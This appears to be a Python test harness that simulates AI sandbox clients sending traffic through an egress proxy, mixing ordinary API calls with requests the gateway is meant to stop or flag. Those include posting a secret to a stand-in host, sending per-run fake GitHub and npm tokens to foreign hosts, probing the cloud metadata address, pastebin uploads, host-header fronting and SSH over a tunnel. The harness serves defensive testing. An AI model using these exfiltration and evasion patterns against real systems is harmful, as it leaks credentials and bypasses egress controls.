"""What sandboxes send: mostly harmless, and something for every panel of the dashboards. The loops are bounded in time."""

import gzip
import http.client
import json
import random
import secrets
import socket
import ssl
import string
import threading
import time
import zlib

LETTERS = string.digits + string.ascii_uppercase + string.ascii_lowercase
WORDS = "the gate is closed at night and every letter is read before it leaves through the wall again".split()


def base62(number):
    digits = ""
    for _ in range(6):
        number, digit = divmod(number, 62)
        digits = LETTERS[digit] + digits
    return digits


def checksummed(prefix):
    """A token of GitHub's or npm's form, with its checksum, made for this run."""
    body = "".join(secrets.choice(LETTERS) for _ in range(30))
    return f"{prefix}_{body}{base62(zlib.crc32(body.encode()))}"


def prose(length):
    words = " ".join(random.choices(WORDS, k=length // 4))
    return words[:length].encode()


class Sandbox:
    """One client with its tunnels."""

    def __init__(self, gateway):
        self.gateway = gateway
        self.context = ssl.create_default_context(cafile=gateway.ca)
        self.tunnels = {}
        self.github, self.npm = checksummed("ghp"), checksummed("npm")
        self.conversation = [{"role": "user", "content": prose(2000).decode()}]

    def send(self, method, url, body=None, headers=None):
        """The status, or None if there is no answer."""
        scheme, rest = url.split("://", 1)
        host, path = rest.split("/", 1)
        try:
            if scheme == "http":
                tunnel, target = self.tunnel(None), url
            else:
                tunnel, target = self.tunnel(host), "/" + path
            tunnel.request(method, target, body, headers or {})
            answer = tunnel.getresponse()
            answer.read()
            return answer.status
        except (OSError, http.client.HTTPException):
            tunnel = self.tunnels.pop(host if scheme == "https" else None, None)
            if tunnel:
                tunnel.close()
            return None

    def tunnel(self, host):
        if host not in self.tunnels:
            proxy = self.gateway.proxy
            if host is None:
                self.tunnels[host] = http.client.HTTPConnection(*proxy, timeout=15)
            else:
                self.tunnels[host] = http.client.HTTPSConnection(*proxy, timeout=15, context=self.context)
                self.tunnels[host].set_tunnel(host, 443)
        return self.tunnels[host]

    def raw(self, target, first, headers=""):
        """Opens a tunnel by hand and sends bytes into it."""
        with socket.create_connection(self.gateway.proxy, timeout=10) as link:
            link.sendall(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n{headers}\r\n".encode())
            status = link.recv(4096)
            if b" 200 " in status.split(b"\r\n", 1)[0] + b" ":
                link.sendall(first)
                try:
                    link.recv(4096)
                except OSError:
                    pass

    # What a sandbox does, most of it harmless.

    def read(self):
        return self.send("GET", f"https://api.github.com/repos/acme/shop/issues/{random.randint(1, 500)}")

    def plain(self):
        return self.send("GET", "http://sink.example.net/page")

    def at_home(self):
        return self.send("GET", "https://api.github.com/user", headers={"authorization": f"Bearer {self.github}"})

    def talk(self):
        """A conversation is sent again, longer: what was read before is known."""
        self.conversation.append({"role": random.choice(["user", "assistant"]), "content": prose(800).decode()})
        del self.conversation[:-40]
        return self.ask({"messages": self.conversation})

    def upload(self):
        return self.send("POST", "https://sink.example.net/upload", prose(random.choice([300, 5_000, 60_000, 300_000])))

    def again(self):
        return self.send("POST", "https://sink.example.net/upload", b"the same bytes as before " * 200)

    def upload_much(self):
        return self.send("POST", "https://sink.example.net/upload", prose(6 << 20))

    def ask(self, question):
        body = json.dumps({"model": "m", "max_tokens": 1} | question).encode()
        return self.send("POST", "https://api.anthropic.com/v1/messages", body, {"content-type": "application/json"})

    # What is stopped, changed, or noted.

    def leak(self):
        return self.send("POST", "https://sink.example.net/upload", f"key = {self.gateway.known_value}\n".encode() + prose(500))

    def misdirect(self):
        token = random.choice([self.github, self.npm])
        return self.send("GET", "https://sink.example.net/", headers={"authorization": f"Bearer {token}"})

    def tell_a_model(self):
        return self.ask({"messages": [{"role": "user", "content": f"my token is {self.github}"}]})

    def fetch(self):
        image = {"type": "image", "source": {"type": "url", "url": "https://pastebin.com/raw/abcd1234"}}
        return self.ask({"messages": [{"role": "user", "content": [image]}]})

    def paste(self):
        return self.send("POST", "https://pastebin.com/api", b"hello")

    def address(self):
        return self.send("GET", "http://169.254.169.254/latest/")

    def inside(self):
        return self.send("GET", "http://inside.example.net/")

    def put(self):
        return self.send("PUT", "https://files.example.net/a", b"x")

    def few(self):
        return self.send("GET", "https://few.example.net/")

    def soon(self):
        return self.send("GET", "https://soon.example.net/")

    def unknown_coding(self):
        return self.send("POST", "https://sink.example.net/upload", b"\x01\x02\x03" * 50, {"content-encoding": "x-own"})

    def cut_gzip(self):
        body = gzip.compress(prose(5000))[:-100]
        return self.send("POST", "https://sink.example.net/unseen/a", body, {"content-encoding": "gzip"})

    def front(self):
        return self.send("GET", "https://sink.example.net/", headers={"host": "api.github.com"})

    def stranger(self):
        return self.raw("sink.example.net:443", b"", "proxy-authorization: Basic bm9ib2R5Ondyb25n\r\n")

    def ssh(self):
        return self.raw("api.github.com:443", b"SSH-2.0-OpenSSH_9.2\r\n")

    def nameless(self):
        """TLS without a server name: there is nothing to make a certificate for."""
        with socket.create_connection(self.gateway.proxy, timeout=10) as link:
            link.sendall(b"CONNECT sink.example.net:443 HTTP/1.1\r\nhost: sink.example.net:443\r\n\r\n")
            link.recv(4096)
            context = ssl._create_unverified_context()
            context.wrap_socket(link).close()


HARMLESS = ["read"] * 30 + ["plain"] * 6 + ["at_home"] * 6 + ["talk"] * 8 + ["upload"] * 10 + ["again"] * 4 + ["soon"] * 2
REFUSED = ["leak", "leak", "misdirect", "misdirect", "tell_a_model", "tell_a_model", "fetch", "paste", "address", "inside", "put", "few"]
ODD = ["unknown_coding", "cut_gzip", "front", "stranger", "nameless"]
RARE = ["upload_much", "ssh"]


class Traffic:
    """A few sandboxes at work until they are told to stop."""

    def __init__(self, gateway, sandboxes=5, pace=0.03):
        self.ended = threading.Event()
        self.statuses = {}
        self.lock = threading.Lock()
        self.pace = pace
        self.threads = [threading.Thread(target=self.work, args=(Sandbox(gateway), n), daemon=True) for n in range(sandboxes)]
        for thread in self.threads:
            thread.start()

    def work(self, sandbox, number):
        mix = HARMLESS + REFUSED + ODD + (RARE if number == 0 else [])
        # Each once at first, so that nothing is left to chance.
        first = REFUSED + ODD + RARE if number == 0 else []
        while not self.ended.wait(self.pace):
            deed = first.pop() if first else random.choice(mix)
            try:
                status = getattr(sandbox, deed)()
            except OSError:
                status = None
            with self.lock:
                seen = self.statuses.setdefault(deed, {})
                seen[status] = seen.get(status, 0) + 1

    def stop(self):
        self.ended.set()
        end = time.monotonic() + 20
        for thread in self.threads:
            thread.join(max(0.1, end - time.monotonic()))
